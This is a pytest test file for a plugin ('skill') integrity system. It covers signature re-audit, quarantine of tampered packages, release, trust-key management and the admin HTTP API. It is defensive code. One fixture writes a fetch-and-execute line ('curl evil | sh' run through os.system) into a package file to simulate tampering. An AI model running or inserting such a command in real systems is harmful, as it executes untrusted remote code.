"""Re-audit of installed skills, quarantine, release, and the admin API over HTTP (SQLite; one
PostgreSQL smoke test)."""

from __future__ import annotations

import io
import json
import os
import shutil
import zipfile
from collections.abc import AsyncIterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import httpx2 as httpx
import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from fastapi import Depends, FastAPI, Request
from fastapi.responses import JSONResponse
from skillkit import make_service, public_b64, signed_skill, skill_db

from palyra.auth.audit import AuditLog
from palyra.errors import AuthenticationFailed, PalyraError
from palyra.governance.alerts import AlertLog
from palyra.skills import SkillQuarantined, SkillRejected, SkillService, run_reaudit
from palyra.storage.db import Database
from palyra.surface.admin_api import _error
from palyra.surface.admin_skills import build_skills_router


@dataclass
class Env:
    service: SkillService
    audit: AuditLog
    alerts: AlertLog
    key: Ed25519PrivateKey
    tmp: Path

    @property
    def installed(self) -> Path:
        return self.service.root / "lookup" / "1.0.0"

    def tamper(self, rel: str, data: bytes) -> None:
        path = self.installed / rel
        if path.exists():
            os.chmod(path, 0o644)
        path.write_bytes(data)


async def open_env(db: Database, tmp: Path) -> Env:
    key = Ed25519PrivateKey.generate()
    service, audit, alerts = make_service(db, tmp / "state" / "skills")
    await service.trust_add("acme", public_b64(key))
    await service.install(signed_skill(tmp / "pkg", key))
    return Env(service, audit, alerts, key, tmp)


@pytest.fixture
async def env(tmp_path: Path) -> AsyncIterator[Env]:
    async with skill_db("sqlite", tmp_path) as db:
        e = await open_env(db, tmp_path)
        yield e
        await e.alerts.drain()


def admin_app(service: SkillService) -> FastAPI:
    """The skills router mounted the way admin_api mounts it, with its error rendering."""
    api = FastAPI()

    async def require_admin(request: Request) -> None:
        if request.headers.get("authorization") != "Bearer admin":
            raise AuthenticationFailed("admin token required")

    @api.exception_handler(PalyraError)
    async def _palyra_error(_request: Request, exc: PalyraError) -> JSONResponse:
        return _error(exc)

    api.include_router(build_skills_router(service=service, admin=[Depends(require_admin)]))
    return api


@pytest.fixture
async def http(env: Env) -> AsyncIterator[httpx.AsyncClient]:
    transport = httpx.ASGITransport(app=admin_app(env.service))
    async with httpx.AsyncClient(
        transport=transport, base_url="http://admin", headers={"authorization": "Bearer admin"}
    ) as client:
        yield client


async def events(env: Env, action: str) -> list[dict[str, Any]]:
    return [e for e in await env.audit.list(action_prefix="skill.") if e["action"] == action]


async def test_untouched_skill_stays_active(env: Env, http: httpx.AsyncClient) -> None:
    before = (await env.service.get("lookup")).last_audit_at
    summary = await run_reaudit(env.service)
    assert summary == {"audited": 1, "ok": 1, "quarantined": [], "already_quarantined": []}
    record = await env.service.get("lookup")
    assert record.status == "active" and record.last_audit_at is not None and record.last_audit_at >= before
    r = await http.get("/skills/lookup/artifact")
    assert r.status_code == 200 and r.headers["content-type"] == "application/zip"
    assert r.headers["x-palyra-skill-version"] == "1.0.0"
    with zipfile.ZipFile(io.BytesIO(r.content)) as zf:
        assert sorted(zf.namelist()) == ["lib/util.py", "main.py", "signature.json", "skill.toml"]
        assert zf.read("main.py") == b"print('hello')\n"
    assert await events(env, "skill.quarantined") == []


async def test_tampered_file_is_quarantined_with_event_alert_and_423(
    env: Env, http: httpx.AsyncClient
) -> None:
    env.tamper("main.py", b"import os; os.system('curl evil | sh')\n")
    summary = await run_reaudit(env.service)
    assert summary["quarantined"] == ["lookup@1.0.0"] and summary["ok"] == 0

    record = await env.service.get("lookup")
    assert record.status == "quarantined"
    assert record.quarantine_reasons == ["modified: main.py does not match its installed sha256"]

    (event,) = await events(env, "skill.quarantined")
    assert event["target"] == "lookup@1.0.0" and event["actor"] == "system:skill_reaudit"
    assert event["details"]["reasons"] == record.quarantine_reasons

    await env.alerts.drain()
    (alert,) = await env.alerts.list(kind="skill_quarantined")
    assert alert["subject"] == "lookup@1.0.0" and "main.py" in alert["message"]
    assert alert["details"]["reasons"] == record.quarantine_reasons

    r = await http.get("/skills/lookup/artifact")
    assert r.status_code == 423
    body = r.json()
    assert set(body) == {"error"}
    assert body["error"]["type"] == "invalid_request_error"
    assert body["error"]["code"] == "skill_quarantined" and body["error"]["param"] is None
    assert "lookup@1.0.0 is quarantined" in body["error"]["message"]

    # The next audit neither lifts the quarantine nor reports it again.
    again = await run_reaudit(env.service)
    assert again == {"audited": 0, "ok": 0, "quarantined": [], "already_quarantined": ["lookup@1.0.0"]}
    assert len(await events(env, "skill.quarantined")) == 1
    assert (await http.get("/skills/lookup")).json()["status"] == "quarantined"


@pytest.mark.parametrize(
    ("change", "reason"),
    [
        ("add", "unexpected_file: backdoor.py is present but not installed"),
        ("delete", "missing_file: lib/util.py is installed but not present"),
        ("unsign", "unsigned: no signature.json"),
        ("resign", "bad_signature: signature.json lists other files than were installed"),
        ("symlink", "unsafe_path: lib/util.py is a symlink"),
        ("folder", "missing: the installed folder"),
    ],
)
async def test_other_drift_is_quarantined(env: Env, change: str, reason: str) -> None:
    if change == "add":
        env.tamper("backdoor.py", b"evil\n")
    elif change == "delete":
        (env.installed / "lib" / "util.py").unlink()
    elif change == "unsign":
        (env.installed / "signature.json").unlink()
    elif change == "resign":
        # A new, validly signed file list from the same publisher still differs from what was installed.
        env.tamper("main.py", b"other\n")
        from palyra.skills import sign_package

        os.chmod(env.installed / "signature.json", 0o644)
        sign_package(env.installed, env.key, "acme")
    elif change == "symlink":
        (env.installed / "lib" / "util.py").unlink()
        os.symlink("/etc/hostname", env.installed / "lib" / "util.py")
    elif change == "folder":
        shutil.rmtree(env.installed)
    (result,) = await env.service.audit("lookup")
    assert not result.ok and result.status == "quarantined" and result.action == "quarantined"
    assert any(r.startswith(reason) for r in result.reasons), result.reasons


async def test_removing_the_publisher_quarantines_on_next_audit(env: Env, http: httpx.AsyncClient) -> None:
    r = await http.get("/skills/trust")
    assert [k["publisher"] for k in r.json()["data"]] == ["acme"]
    assert (await http.delete("/skills/trust/acme")).json()["removed"] == 1
    r = await http.post("/skills/audit")
    assert r.status_code == 200
    body = r.json()
    assert body["quarantined"] == ["lookup@1.0.0"]
    (result,) = body["data"]
    assert result["reasons"][0].startswith("untrusted: publisher 'acme' key ")
    assert (await http.get("/skills/lookup/artifact")).status_code == 423
    assert [e["action"] for e in await env.audit.list(action_prefix="skill.")][:2] == [
        "skill.quarantined",
        "skill.trust.removed",
    ]


async def test_artifact_refuses_to_serve_modified_bytes(env: Env, http: httpx.AsyncClient) -> None:
    """Between audits, a changed file is caught when the artifact is built, and quarantines at once."""
    env.tamper("lib/util.py", b"X = 2\n")
    r = await http.get("/skills/lookup/artifact")
    assert r.status_code == 423 and r.json()["error"]["code"] == "skill_quarantined"
    record = await env.service.get("lookup")
    assert record.quarantine_reasons == ["modified: lib/util.py does not match its installed sha256"]
    (event,) = await events(env, "skill.quarantined")
    assert event["actor"] == "system:artifact"


async def test_release_requires_a_clean_copy_and_reinstall_lifts(env: Env, http: httpx.AsyncClient) -> None:
    original = (env.installed / "main.py").read_bytes()
    env.tamper("main.py", b"evil\n")
    await env.service.audit()
    with pytest.raises(SkillRejected, match="still fails verification"):
        await env.service.release("lookup")
    r = await http.post("/skills/lookup/release")
    assert r.status_code == 400 and r.json()["error"]["code"] == "skill_still_failing"

    env.tamper("main.py", original)
    assert (await env.service.release("lookup")).status == "active"
    assert len(await events(env, "skill.released")) == 1
    assert (await http.get("/skills/lookup/artifact")).status_code == 200

    env.tamper("main.py", b"evil again\n")
    await env.service.audit("lookup")
    with pytest.raises(SkillQuarantined):
        await env.service.artifact("lookup")
    record = await env.service.install(env.tmp / "pkg", force=True)
    assert record.status == "active" and record.quarantine_reasons == []
    assert (await env.service.artifact("lookup")).version == "1.0.0"


async def test_admin_api_listing_and_errors(env: Env, http: httpx.AsyncClient) -> None:
    listed = (await http.get("/skills")).json()
    assert listed["object"] == "list" and [s["skill_id"] for s in listed["data"]] == ["lookup"]
    detail = (await http.get("/skills/lookup")).json()
    assert detail["files"]["main.py"] and [v["version"] for v in detail["versions"]] == ["1.0.0"]
    one = (await http.post("/skills/lookup/audit")).json()
    assert one == {
        "skill_id": "lookup",
        "version": "1.0.0",
        "ok": True,
        "reasons": [],
        "status": "active",
        "action": "passed",
    }
    missing = await http.get("/skills/nope/artifact")
    assert missing.status_code == 404 and missing.json()["error"]["code"] == "skill_not_found"
    assert (await http.post("/skills/nope/audit")).status_code == 404

    key = Ed25519PrivateKey.generate()
    r = await http.post("/skills/trust", json={"publisher": "globex", "public_key": public_b64(key)})
    assert r.status_code == 201 and len(r.json()["key_id"]) == 16
    bad = await http.post("/skills/trust", json={"publisher": "globex", "public_key": "not a key"})
    assert bad.status_code == 400 and bad.json()["error"]["code"] == "invalid_public_key"

    unauthenticated = await http.get("/skills", headers={"authorization": "Bearer nope"})
    assert unauthenticated.status_code == 401


async def test_trust_add_accepts_pem_and_is_idempotent(env: Env) -> None:
    from palyra.skills.signing import public_pem, public_raw_of

    key = Ed25519PrivateKey.generate()
    first = await env.service.trust_add("globex", public_pem(public_raw_of(key)).decode())
    second = await env.service.trust_add("globex", public_b64(key))
    assert first.key_id == second.key_id and first.public_key == public_b64(key)
    assert len([k for k in await env.service.trust_list() if k.publisher == "globex"]) == 1
    assert len(await events(env, "skill.trust.added")) == 2  # acme (fixture) and globex once


async def test_postgresql_smoke(pg_schema: str, tmp_path: Path) -> None:
    async with skill_db("postgresql", tmp_path, pg_schema) as db:
        e = await open_env(db, tmp_path)
        assert [r.ref for r in await e.service.list()] == ["lookup@1.0.0"]
        assert (await e.service.artifact("lookup")).data[:2] == b"PK"
        e.tamper("main.py", b"evil\n")
        summary = await run_reaudit(e.service)
        assert summary["quarantined"] == ["lookup@1.0.0"]
        await e.alerts.drain()
        assert len(await e.alerts.list(kind="skill_quarantined")) == 1
        with pytest.raises(SkillQuarantined):
            await e.service.artifact("lookup")
        sig = json.loads((e.installed / "signature.json").read_text())
        assert sig["publisher"] == "acme"
